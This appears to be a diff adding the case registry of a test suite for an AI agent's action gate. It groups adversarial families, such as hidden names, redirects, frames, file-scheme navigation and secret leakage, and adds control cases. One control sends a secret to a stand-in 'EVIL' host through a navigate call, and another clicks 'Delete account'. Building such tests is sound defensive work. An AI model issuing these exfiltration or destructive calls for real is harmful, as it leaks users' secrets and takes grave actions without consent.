@@ -1,0 +1,81 @@
+"""Everything that is run: the attacks by family, which of them also come through other ways, and the controls."""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, replace
+
+from gate_suite import attacks_keys, attacks_names, attacks_places, attacks_secrets, carriers
+from gate_suite.attacks_keys import HELLO, LEAVE, grave
+from gate_suite.case import Call, Case, Open, Rule, Way
+
+_OTHER_WAYS: tuple[Way, ...] = ("direct", "script", "plugin", "mcp")
+_THROUGH_ALL = (
+    "press: Tab and Enter",
+    "press: the focus moves",
+    "fill: a switch",
+    "select: by its value",
+    "drag: onto",
+    "click: a name that hides",
+    "click: a control inside a row",
+    "while the card is shown: where its form",
+    "frames: leave given to a page",
+    "blocked: a redirect",
+    "blocked: a frame",
+    "scheme: navigate to file",
+    "leave: of one site",
+    "leave: refused",
+    "secret: in an address, 64",
+    "secret: typed, BACK",
+)
+"""Cases that are also tried by a person's direct call, and by scripts, plugins and MCP clients."""
+_AT_A_TERMINAL = ("click: a name that hides", "blocked: a redirect", "leave: of one site")
+
+
+@dataclass(frozen=True, slots=True)
+class Family:
+    """Cases of one kind; those of `gullible` hold several attacks each."""
+
+    name: str
+    cases: tuple[Case, ...]
+    gullible: bool = False
+
+
+def _through(way: Way, names: tuple[str, ...]) -> tuple[Case, ...]:
+    found = [case for case in ADVERSARIAL if case.name.startswith(names)]
+    return tuple(replace(case, name=f"{case.name}, {way}", via=way) for case in found)
+
+
+ADVERSARIAL = (*attacks_keys.CASES, *attacks_names.CASES, *attacks_places.CASES, *attacks_secrets.CASES)
+FAMILIES = (
+    Family("gullible", carriers.cases(), gullible=True),
+    Family("keys, texts, dialogs", attacks_keys.CASES),
+    Family("names and moments", attacks_names.CASES),
+    Family("places and leave", attacks_places.CASES),
+    Family("secrets", attacks_secrets.CASES),
+    Family("other ways in", tuple(case for way in _OTHER_WAYS for case in _through(way, _THROUGH_ALL))),
+    Family("a terminal without a person", _through("terminal", _AT_A_TERMINAL)),
+)
+_DELETE = Call("click", {"ref": '@button "Delete account"'})
+CONTROLS = (
+    Case(
+        "an act that was allowed arrives",
+        {"home": HELLO + grave("Delete account", "delete")},
+        (*LEAVE, _DELETE),
+        Rule(("Delete",), ordinary=True, grave=True),
+        must=("home/grave/delete",),
+    ),
+    Case(
+        "a secret that a card showed arrives",
+        {"evil": HELLO},
+        (Open("%BANK%/"), Open("%EVIL%/"), Call("navigate", {"url": "%EVIL%/plain/c?d=$S"})),
+        Rule(("Open",), grave=True),
+        must=("evil/plain/c",),
+    ),
+    Case(
+        "an ordinary act under leave arrives",
+        {"home": HELLO + "<button onclick=\"fetch('/%N%/plain/x',{method:'POST'})\">Next</button>"},
+        (*LEAVE, Call("click", {"ref": '@button "Next"'})),
+        must=("home/plain/x",),
+    ),
+)
+"""They show that what is judged can happen at all."""
